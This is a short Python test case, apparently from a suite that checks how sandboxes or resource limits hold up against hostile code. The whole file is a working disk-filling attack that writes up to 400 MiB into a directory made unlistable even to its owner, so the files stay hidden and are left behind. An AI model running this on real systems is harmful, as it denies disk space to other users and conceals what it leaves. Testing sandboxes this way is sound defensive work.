# attack: Writes into folders of its own that can be entered and written but not listed, not even by their owner.
# hurts: Leaves no room on the disk for anybody else, unseen by one who counts as the same user, and leaves files behind.
# at most at A: 72 MiB
# ends: returns or error or crash
# ends at B, C: crash
import os
import time

from _raw import MIB, took

MOST = 400
STEP = 4
WRITE_AND_ENTER = 0o300


def attack(target):
    piece, total, why = bytes(range(256)) * (STEP * MIB // 256), 0, ""
    os.mkdir(target["note"], WRITE_AND_ENTER)
    try:
        for number in range(MOST // 40):
            with open(f"{target['note']}/full-{number}", "wb", buffering=0) as file:
                for _ in range(40 // STEP):
                    if file.write(piece) < len(piece):
                        break
                    total += STEP
                    took(total * MIB)
    except OSError as error:
        why = str(error)
    if total * MIB > target["disk_bytes"]:
        time.sleep(2)
    return [took(total * MIB), why]
